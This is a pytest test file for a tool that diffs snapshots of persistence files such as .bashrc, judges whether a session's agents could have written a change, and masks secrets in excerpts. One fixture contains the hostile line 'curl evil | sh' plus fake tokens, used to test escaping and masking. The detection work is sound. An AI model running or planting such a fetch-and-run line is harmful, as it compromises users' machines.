"""What differs, what cannot be told, who could have done it, and how it is shown."""

from __future__ import annotations

import json
from dataclasses import replace
from typing import Any

import pytest

from console.rollback.persistence.differ import LISTED, bounded, could_write, diff, excerpt_of, report
from console.rollback.persistence.findings import Change, Entry, RootSeen, Snapshot, Writers, short, shown, snapshot_from_json

US = Writers("c1", 1000, 1000, True)


def entry(path: str = ".bashrc", digest: str = "a", **more: Any) -> Entry:
    fields: dict[str, Any] = {
        "root": "home:/h",
        "path": path,
        "kind": "shell start file",
        "runs": "your next shell",
        "what": "file",
        "digest": digest,
    }
    fields |= {"size": 1, "executable": False, "uid": 0, "gid": 0, "mode": 0o644, "mtime": 1.0, "folder": (0, 0, 0o755)}
    return Entry(**(fields | more))


def snap(*entries: Entry, whole: bool = True, label: str = "home:/h") -> Snapshot:
    return Snapshot(1.0, (RootSeen(label, "/h", whole, "" if whole else "out of time"),), entries)


def test_added_changed_removed_and_nothing_else() -> None:
    before = snap(entry("a"), entry("b"), entry("c"))
    after = snap(entry("a"), entry("b", "other"), entry("d"))
    assert {(i.path, c) for c, _, i in diff(before, after)} == {("b", Change.CHANGED), ("c", Change.REMOVED), ("d", Change.ADDED)}


def test_without_a_baseline_everything_is_unverified_and_the_answer_unknown() -> None:
    found = report("c1", None, snap(entry()), US)
    assert [f.change for f in found.findings] == [Change.UNVERIFIED]
    assert found.doubts == ("there is no baseline",)
    assert found.baseline_at is None


def test_where_a_look_was_cut_nothing_is_said_to_be_new_or_gone_and_that_is_said() -> None:
    found = report("c1", snap(whole=False), snap(entry()), US)
    assert [f.change for f in found.findings] == [Change.UNVERIFIED] and "baseline did not see all" in found.doubts[0]
    found = report("c1", snap(entry()), snap(whole=False), US)
    assert found.findings == () and "out of time" in found.doubts[0]
    other = report("c1", snap(label="system"), snap(entry()), US)
    assert [f.change for f in other.findings] == [Change.UNVERIFIED]


def test_a_whole_look_without_differences_has_no_doubt() -> None:
    found = report("c1", snap(entry()), snap(entry()), US)
    assert (found.findings, found.doubts, found.outside) == ((), (), 0)


@pytest.mark.parametrize(
    ("change", "says"),
    [
        ({"root": "session:c1"}, "yes: it is in the session's workspace"),
        ({"uid": 1000}, "yes: it belongs to uid 1000"),
        ({"uid": 0, "folder": (0, 0, 0o777)}, "yes: uid 1000, under which they ran, may write its folder"),
        ({"uid": 0, "folder": (0, 1000, 0o775)}, "yes: uid 1000"),
        ({"uid": 0, "folder": (1000, 0, 0o555)}, "yes: uid 1000"),
        ({"uid": 0, "mode": 0o646}, "yes: uid 1000, under which they ran, may write it"),
        ({"uid": 0, "gid": 1000, "mode": 0o664}, "yes"),
        ({"uid": 0}, "no: they ran under uid 1000"),
    ],
)
def test_whether_the_sessions_agents_could_have_written_it(change: dict[str, Any], says: str) -> None:
    assert could_write(entry(**change), US).startswith(says)


def test_agents_that_saw_their_workspace_alone_could_not() -> None:
    assert could_write(entry(uid=1000), replace(US, saw_host=False)).startswith("no")
    assert could_write(entry(root="session:c1"), replace(US, saw_host=False)).startswith("yes")
    assert could_write(entry(root="session:c2", uid=5, folder=(5, 5, 0o700)), US).startswith("no")
    assert could_write(entry(), replace(US, uid=0)).startswith("yes")


def test_only_new_lines_are_shown_escaped_masked_and_bounded() -> None:
    text = b"old line\n\x1b[31mcurl evil | sh\n_authToken=npm_1234567890\nexport API_KEY='abcdefgh'\n"
    seen = excerpt_of(text, frozenset({short(b"old line")}))
    assert seen.splitlines() == ["\\x1b[31mcurl evil | sh", "_authToken=[masked]", "export API_KEY='[masked]'"]
    assert excerpt_of(b"\0ELF", frozenset()) == "(not text)"
    assert len(excerpt_of(b"x" * 100_000, frozenset())) < 200
    assert excerpt_of(b"a\n" * 100, frozenset()).endswith("88 more lines")


def test_names_are_shown_so_that_they_cannot_mislead() -> None:
    assert shown("a\nb‮c\x1b[31m\udcff") == "a\\nb\\u202ec\\x1b[31m\\xff"
    assert shown("übung") == "übung"
    assert len(shown("x" * 1000, 100)) == 101


def test_a_finding_says_where_what_and_who() -> None:
    was = entry(lines=(short(b"old"),))
    now = replace(was, digest="b", text=b"old\nevil", uid=1000, executable=True)
    found = report("c1", snap(was), snap(now), US).findings[0]
    assert (found.path, found.change, found.runs) == ("/h/.bashrc", Change.CHANGED, "your next shell")
    assert (found.before_sha256, found.after_sha256, found.excerpt) == ("a", "b", "evil")
    assert found.note == "it can be executed now"


def test_what_was_a_file_and_is_a_link_is_said() -> None:
    was, now = entry(), entry(digest="t", what="link", target="/elsewhere")
    assert report("c1", snap(was), snap(now), US).findings[0].note == "leads to /elsewhere; it was a file"


def test_findings_are_bounded_and_those_outside_come_first() -> None:
    inside = tuple(replace(entry(str(n)), root="session:c1") for n in range(LISTED))
    after = Snapshot(1.0, (RootSeen("session:c1", "/w", True), RootSeen("home:/h", "/h", True)), (*inside, entry()))
    found = report("c1", replace(after, entries=()), after, US)
    assert (len(found.findings), found.left_out, found.findings[0].path, found.outside) == (LISTED, 1, "/h/.bashrc", 1)


def test_reports_together_are_bounded_in_number_and_weight_and_the_rest_is_counted() -> None:
    after = snap(*(entry(str(n), text=b"\\" * 400) for n in range(20)))
    one = report("c1", snap(), after, US)
    newer = replace(one, looked_at=2.0, context_id="c2", left_out=3)
    cut = bounded([one, newer], 25, 1 << 20)
    assert [(r.context_id, len(r.findings), r.left_out) for r in cut] == [("c1", 5, 15), ("c2", 20, 3)]
    assert [len(r.findings) for r in bounded([one, newer], 25, 2000)] == [0, 2]


def test_a_snapshot_comes_back_from_json_without_its_texts() -> None:
    taken = snap(entry("\udcff\n", lines=("x",), text=b"secret"))
    data = json.dumps(taken.as_json())
    assert "secret" not in data
    assert snapshot_from_json(json.loads(data)) == taken
